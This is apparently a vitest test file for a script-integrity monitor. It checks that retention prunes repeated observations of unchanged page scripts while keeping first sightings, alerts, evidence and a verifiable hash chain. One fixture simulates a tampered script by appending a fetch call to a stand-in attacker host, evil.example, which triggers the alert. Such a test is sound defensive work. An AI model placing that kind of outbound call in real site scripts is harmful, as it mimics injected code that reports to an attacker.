// Store: retention removes repeated observations of unchanged scripts, keeps first sightings, alerts and evidence,
// and the scan chain still verifies afterwards (and still catches an edited pruned scan).

import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, it } from 'vitest';
import { planScan } from '../../src/plan/plan-scan.js';
import { openStore, type Store } from '../../src/store/open-store.js';
import { APP, healthyShop, INLINE_A, INLINE_B, LIB, pageCapture, script } from '../fixtures/captures.js';
import { tempProject } from '../fixtures/cli.js';
import { rawSql, testDatabase } from '../fixtures/test-database.js';

async function history(): Promise<{ store: Store; alertScan: number }> {
  const store = await openStore(await testDatabase(tempProject('sw-retain-')));
  const scan = async (capture = healthyShop(), evidence?: { name: string; bytes: Buffer }[]) => {
    const plan = planScan(capture, await store.scans.readBaseline(capture.target, capture.profile), { removalThreshold: 2 });
    if (evidence) plan.evidence = evidence;
    return store.scans.applyPlan(plan);
  };
  // The CDN answers from another address on each load: the same bodies, other metadata, a set of their own each.
  const cdn = (i: number) => pageCapture([APP, { ...LIB, remoteIp: `192.0.2.${100 + i}` }, INLINE_A, INLINE_B]);
  await scan();
  await store.alerts.approveAll({ by: 'alice', note: 'baseline', at: '2026-11-22T09:00:00.000Z' });
  for (let i = 0; i < 5; i++) await scan(cdn(i));
  const changed = await scan(pageCapture([script({ kind: 'external', url: APP.url, body: `${APP.body}\nfetch("https://evil.example/c")` }), LIB, INLINE_A, INLINE_B]),
    [{ name: 'screenshot.png', bytes: Buffer.from('\x89PNG fake') }]);
  for (let i = 5; i < 8; i++) await scan(cdn(i));
  return { store, alertScan: changed.scanId };
}

const count = async (store: Store, sql: string, ...args: number[]) => (await rawSql(store).prepare<number[], { n: number }>(sql).get(...args))!.n;
const ALL = 'SELECT COUNT(*) AS n FROM set_scripts';
const OF_SCAN = 'SELECT COUNT(*) AS n FROM set_scripts WHERE set_id = (SELECT set_id FROM scans WHERE id = ?)';

describe('retention', () => {
  it('prunes repeated observations and keeps the chain verifiable', async () => {
    const { store, alertScan } = await history();
    const before = await count(store, ALL);
    const perScan = await count(store, OF_SCAN, 1);
    assert.equal(await count(store, 'SELECT COUNT(*) AS n FROM observation_sets'), 10, 'every scan saw something new');
    const report = await store.scans.retain('2999-01-01T00:00:00.000Z');
    const afterCount = await count(store, ALL);
    assert.ok(report.observationsRemoved > 0 && afterCount === before - report.observationsRemoved);
    assert.equal(await count(store, OF_SCAN, 1), perScan, 'first sightings are kept');
    assert.equal(await count(store, OF_SCAN, alertScan), perScan, 'the alerting scan keeps everything');
    assert.equal(await count(store, OF_SCAN, 10), perScan, 'the latest sighting of each script is kept');
    assert.equal(await count(store, OF_SCAN, 3), 0, 'repeats in between are gone');
    assert.equal(report.scans, 8, 'every scan but the alerting one and the latest (the first keeps its rows: first sightings)');
    assert.equal(await count(store, 'SELECT COUNT(*) AS n FROM evidence WHERE scan_id = ?', alertScan), 1, 'evidence is never pruned');
    assert.equal(await count(store, "SELECT COUNT(*) AS n FROM baseline WHERE state = 'approved'") > 0, true, 'baselines stay');
    assert.equal((await store.alerts.list({ status: 'all' })).length, 1);
    const report2 = await store.scans.verify();
    assert.equal(report2.ok, true, JSON.stringify(report2.firstBreak));
    assert.equal((await store.scans.retain('2999-01-01T00:00:00.000Z')).scans, 0, 'a pruned scan is not pruned twice');
    // The digest is kept once, on the pruned set, not stamped on each of its scans.
    assert.equal(await count(store, 'SELECT COUNT(*) AS n FROM scans WHERE observations_digest IS NOT NULL OR pruned_at IS NOT NULL'), 0);
    assert.equal(await count(store, 'SELECT COUNT(*) AS n FROM observation_sets WHERE pruned_digest IS NOT NULL'), 8);
    await rawSql(store).prepare('UPDATE observation_sets SET pruned_digest = ? WHERE id = (SELECT set_id FROM scans WHERE id = 4)').run('0'.repeat(64));
    assert.match((await store.scans.verify()).firstBreak?.reason ?? '', /^scan #4 .* does not match its hash/);

    await rawSql(store).prepare('UPDATE scans SET observations_digest = ? WHERE id = 3').run('0'.repeat(64));
    assert.match((await store.scans.verify()).firstBreak?.reason ?? '', /^scan #3 .* does not match its hash/);
    await store.close();
  });

  it('keeps everything newer than the cutoff', async () => {
    const { store } = await history();
    const before = await count(store, ALL);
    assert.deepEqual(await store.scans.retain('2000-01-01T00:00:00.000Z'), { scans: 0, observationsRemoved: 0 });
    assert.equal(await count(store, ALL), before);
    await store.close();
  });
});
